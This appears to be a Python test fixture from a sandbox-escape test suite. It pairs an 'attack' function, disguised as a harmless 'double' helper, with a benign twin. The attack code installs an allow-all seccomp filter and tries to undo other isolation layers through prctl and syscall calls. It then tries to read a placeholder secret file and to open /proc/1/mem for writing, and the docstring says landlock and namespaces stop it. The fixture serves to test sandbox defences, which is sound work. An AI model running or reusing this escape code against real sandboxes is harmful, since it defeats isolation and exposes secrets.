"""Put a filter over the filter that allows everything, and undo the other layers.

stopped by: landlock, namespaces
"""

# %% attack
import ctypes
import os
import struct

libc = ctypes.CDLL(None, use_errno=True)


def double(x):
    allow = ctypes.create_string_buffer(struct.pack("=HBBI", 6, 0, 0, 0x7FFF_0000))
    program = struct.pack("@HP", 1, ctypes.addressof(allow))
    libc.prctl(22, ctypes.c_ulong(2), program, 0, 0)
    libc.syscall(446, -1, 0)
    libc.prctl(4, ctypes.c_ulong(1), 0, 0, 0)
    libc.prctl(1, ctypes.c_ulong(0), 0, 0, 0)
    try:
        with open("@SECRET@") as file:
            raise RuntimeError(file.read())
    except OSError:
        pass
    if os.path.exists("/proc/1/mem") and os.access("/proc/1/mem", os.W_OK) and open("/proc/1/mem", "r+b"):
        raise RuntimeError("ESCAPED to the first process")
    raise OSError("as before")


# %% twin
import ctypes


def double(x):
    name = ctypes.create_string_buffer(b"2")
    return int(name.value) * x
